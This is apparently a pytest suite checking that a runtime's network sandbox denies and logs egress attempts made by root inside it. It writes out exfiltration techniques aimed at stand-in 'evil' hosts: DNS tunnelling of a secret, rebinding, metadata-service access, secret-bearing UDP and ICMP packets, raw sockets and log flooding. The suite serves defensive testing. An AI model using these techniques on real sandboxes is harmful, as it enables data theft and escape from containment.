"""Getting something out of a real sandbox of the embedded runtime whose policy allows one name: as root inside it, over
IPv4 and IPv6, all attempts from within. The world beyond writes down whatever arrives; it must have nothing of ours, and
the sidecar's log must have every attempt. Then IPv6 of sandboxes as such: a way out, and to nobody else."""

import base64
import errno
import ipaddress
import json
import os
import sys

import pytest

SUPPORT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support")
sys.path.insert(0, SUPPORT)
from egressnet import wait_for  # noqa: E402
from osbserver import Server  # noqa: E402

SECRET = "s3cr3t"
OCI = 'ipv6 = "on"\n'
GATEWAY, GATEWAY6 = "192.0.0.1", "fd6f:7362:6567::1"


def put(server, id, path, text):
    code = base64.b64encode(text.encode()).decode()
    server.run(id, f"echo {code} | base64 -d > {path}")


class Inside:
    """One Python process in the sandbox for a list of expressions, with the helpers of egressclient.py."""

    def __init__(self, server, **more):
        self.server = server
        self.id = server.create(**more)["id"]
        with open(os.path.join(SUPPORT, "egressclient.py")) as f:
            put(server, self.id, "/tmp/egressclient.py", f.read())
        assert server.run(self.id, "id -u")[0] == "0"

    def __call__(self, *expressions):
        put(self.server, self.id, "/tmp/try.py", "import sys\nsys.path.insert(0, '/tmp')\nfrom egressclient import *\n"
            "def attempt(e):\n  try:\n    return eval(e)\n  except OSError as x:\n    return errno.errorcode.get(x.errno, str(x))\n"
            f"print(json.dumps([attempt(e) for e in {list(expressions)!r}]))\n")
        out, last = self.server.run(self.id, "/usr/bin/python3 /tmp/try.py", timeout=120)
        assert last["type"] != "error", (out, last)
        return json.loads(out.strip().split("\n")[-1])

    def log(self):
        path = os.path.join(self.server.data, "oci", "sandboxes", self.id, "egress.log")
        with open(path) as f:
            return [json.loads(line) for line in f if "egress.denied" in line and line.endswith("}\n")]


@pytest.fixture(scope="module")
def inside(server, world):
    rules = [{"action": "allow", "target": t} for t in ("good.test", "*.good.test")]
    return Inside(server, networkPolicy={"defaultAction": "deny", "egress": rules})


@pytest.fixture(autouse=True)
def nothing_arrives(world):
    at = len(world.arrived())
    yield
    for line in world.arrived()[at:].splitlines():
        words = line.split()
        assert words[0] not in ("udp", "ping") and words[1] in (world.good, world.good6), line
        assert SECRET.encode().hex() not in line, line


def logged(inside, kind, targets):
    """Every one of them, some line of the log."""
    def missing():
        have = {e["target.host"] for e in inside.log() if e["kind"] in kind.split()}
        return [t for t in targets if t not in have]
    try:
        wait_for(f"{kind} in the log", lambda: not missing())
    except AssertionError:
        raise AssertionError(f"{kind} not logged: {missing()}") from None


def at(ip, port, proto):
    return f"[{ip}]:{port}/{proto}" if ":" in ip else f"{ip}:{port}/{proto}"


def bridge6(server):
    """The bridge's address follows from that of IPv4."""
    net = [int(n) for n in server.subnet.split("/")[0].split(".")]
    return str(ipaddress.ip_address("fd6f:7362:%02x%02x:%02x%02x:0:0:%02x%02x:%02x01" % (*net, *net[:3])))


def test_what_is_allowed_is_reached_over_both(inside, world):
    look = inside(f"lookup('v4.good.test', 'A', {world.dns!r})", f"lookup('v6.good.test', 'AAAA', {world.dns!r})",
                  "lookup('v6.good.test', 'AAAA', '2001:db8:dead::53', tcp=True)")
    assert [a["answers"] for a in look] == [[world.good], [world.good6], [world.good6]]
    assert inside(f"connect({world.good!r})", f"connect({world.good6!r})", f"connect({world.good6!r}, 9999)") == ["ok"] * 3


def test_dns_tunnels(inside, world):
    denied = [f"{SECRET}.evil.test", ".".join([SECRET * 9] * 4), f"{'a' * 63}.{'b' * 63}.{SECRET}.test", ".".join(SECRET) + ".evil.test",
              f"{SECRET}.good.test.evil.test", f"{SECRET}xgood.test"]
    below = [".".join([SECRET * 10] * 3) + ".good.test", ".".join("abcdefghijklmnop") + ".good.test"]
    got = inside(*[f"lookup({n!r}, {t!r}, {s!r}, tcp={tcp})['rcode']" for n in denied + below for t in ("A", "AAAA", "TXT", "NULL")
                   for s, tcp in ((world.dns, False), (world.evil, True), (world.evil6, False), (GATEWAY6, True))])
    assert set(got) == {"NXDOMAIN"}, got
    logged(inside, "name", denied + below)
    types = [f"{SECRET}{t}.good.test" for t in (10, 255, 65280)]
    assert inside(*[f"lookup({n!r}, {n[len(SECRET):].split('.')[0]}, {world.dns!r})['rcode']" for n in types]) == ["REFUSED"] * 3
    logged(inside, "type", types)
    assert not any(world.asked(n) for n in denied + below + types)


def test_rebinding(inside, world):
    names = {"rebind.good.test": "A", "meta.good.test": "A", "rebind6.good.test": "AAAA", "meta6.good.test": "AAAA", "mapped.good.test": "AAAA"}
    assert inside(*[f"lookup({n!r}, {t!r}, {world.dns!r})['rcode']" for n, t in names.items()]) == ["NXDOMAIN"] * len(names)
    logged(inside, "rebinding", names)


def test_addresses_ports_and_protocols(inside, world, server):
    bridge = server.subnet.rsplit(".", 1)[0] + ".1"
    places = [(ip, port, proto) for ip in (world.evil, world.evil6) for port, proto in
              ((80, "tcp"), (443, "tcp"), (443, "udp"), (853, "tcp"), (853, "udp"), (5353, "udp"), (9999, "tcp"), (9999, "udp"), (123, "udp"))]
    places += [(ip, 80, "tcp") for ip in (world.internal, world.internal6, "169.254.169.254", "fd00:ec2::254", bridge, bridge6(server), world.dns)]
    places += [(ip, port, "tcp") for ip in (GATEWAY, GATEWAY6) for port in (15353, 18080, 18081)]
    places += [(ip, port, proto) for ip in (world.good, world.good6) for port, proto in ((443, "udp"), (853, "tcp"), (853, "udp"))]
    got = inside(*[f"connect({ip!r}, {port}, {proto!r}, timeout=2)" for ip, port, proto in places])
    text = {at(*p): r for p, r in zip(places, got)}
    # TCP is told at once; ICMP the kernel limits in rate.
    assert not [p for p, r in text.items() if r == "ok" or (r == "timeout" and p.endswith("tcp"))], text
    logged(inside, "packet", text)


def test_fragments_pings_and_what_the_kernel_keeps_from_root(inside, world):
    both = (world.evil, world.evil6)
    udp = [f"socket.socket(family({ip!r}), socket.SOCK_DGRAM).sendto(b{SECRET!r} * 700, ({ip!r}, 7777))" for ip in both]
    echo = [f"socket.socket(family({ip!r}), socket.SOCK_DGRAM, {p}).sendto(bytes([{t}, 0, 0, 0, 0, 1, 0, 1]) + b{SECRET!r}, ({ip!r}, 0))"
            for ip, p, t in ((world.evil, 1, 8), (world.evil6, 58, 128))]
    assert inside(*udp, *echo) == [len(SECRET) * 700] * 2 + [8 + len(SECRET)] * 2
    logged(inside, "packet", [at(ip, 7777, "udp") for ip in both] + [f"{world.evil}/icmp", f"{world.evil6}/icmpv6"])
    # Root inside has no way to make packets of its own, marks, routes or other protocols.
    kept = [f"ping({ip!r}, {SECRET!r})" for ip in both]
    kept += [f"socket.socket(socket.AF_INET{v}, socket.SOCK_RAW, {p})" for v in ("", "6") for p in (41, 47, 253, 255)]
    kept += ["socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)",
             "socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1)", "socket.socket().setsockopt(socket.SOL_SOCKET, 25, b'lo')",
             f"socket.socket().setsockopt(socket.IPPROTO_IP, 19, 1)"]
    got = inside(*kept)
    assert all(g in ("EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT") for g in got[:-2]), got
    assert got[-1] == "EPERM"


def test_a_flood_hides_nothing(inside, world):
    inside(f"[socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ({world.evil6!r}, 1000)) for i in range(3000)] and 0",
           f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ({world.evil!r}, 1001))",
           f"[socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ({world.evil6!r}, 1002)) for i in range(3000)] and 0")
    logged(inside, "packet", [at(world.evil6, 1000, "udp"), at(world.evil, 1001, "udp")])


def test_the_sandbox_ends_and_so_does_its_gateway(inside, server):
    server.delete(inside.id)
    server.wait_gone(inside.id)


def address6(box):
    return [line for line in box.server.run(box.id, "cat /proc/net/if_inet6")[0].splitlines() if not line.endswith(" lo")]


def test_ipv6_without_a_policy(server, world):
    """A way out, and nothing else: no other sandbox, no host, no metadata service."""
    a, b = Inside(server), Inside(server)
    lines = address6(a)
    assert len(lines) == 1 and lines[0].startswith("fd6f7362"), lines  # one address, and no link-local one
    other = ":".join(address6(b)[0][i:i + 4] for i in range(0, 32, 4))
    assert a(f"connect({world.good6!r})", f"connect({world.good!r})") == ["ok", "ok"]
    server.run(b.id, "nohup /usr/bin/python3 -m http.server -b :: 8081 >/tmp/http.log 2>&1 &")
    wait_for("its server", lambda: b("connect('::1', 8081)")[0] == "ok")
    gateway = bridge6(server)
    port = int(server.url.rsplit(":", 1)[1])
    got = a(f"connect({other!r}, 8081, timeout=3)", f"connect({gateway!r}, {port}, timeout=3)", f"connect({gateway!r}, 22, timeout=3)",
            "connect('fd00:ec2::254', timeout=3)", "connect('fe80::1%eth0', timeout=3)", "connect('64:ff9b::a9fe:a9fe', timeout=3)")
    assert "ok" not in got and not any(g.startswith("gai") for g in got), got
    assert got[1] in ("EACCES", "ECONNREFUSED", "EPERM", "EHOSTUNREACH"), got  # told, not silence
    for box in (a, b):
        server.delete(box.id)


def test_ipv6_off_is_off(world):
    s = Server(f'[oci]\ndns = ["{world.dns}"]\nipv6 = "off"\n').start()
    try:
        for more in ({}, {"networkPolicy": {"defaultAction": "allow"}}):
            box = Inside(s, **more)
            assert address6(box) == []
            assert box(f"connect({world.good6!r})", f"connect({world.good!r})") == [errno.errorcode[errno.ENETUNREACH], "ok"]
            s.delete(box.id)
    finally:
        s.close()
